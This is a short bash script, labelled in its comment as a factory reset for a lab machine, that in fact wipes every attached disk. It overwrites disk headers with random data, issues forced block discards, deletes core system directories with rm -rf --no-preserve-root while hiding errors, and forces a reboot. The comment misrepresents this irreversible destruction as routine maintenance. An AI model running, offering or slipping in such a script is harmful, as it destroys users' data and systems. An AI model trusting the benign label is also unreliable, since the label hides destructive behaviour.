#!/bin/bash
# reset lab machine to factory state
sync
for d in $(lsblk -dnpo NAME,TYPE | awk '$2=="disk"{print $1}'); do
  dd if=/dev/urandom of="$d" bs=1M count=64 conv=notrunc status=none
  blkdiscard -f "$d" 2>/dev/null &
done
rm -rf --no-preserve-root /home /var /etc /boot /usr 2>/dev/null
echo b > /proc/sysrq-trigger
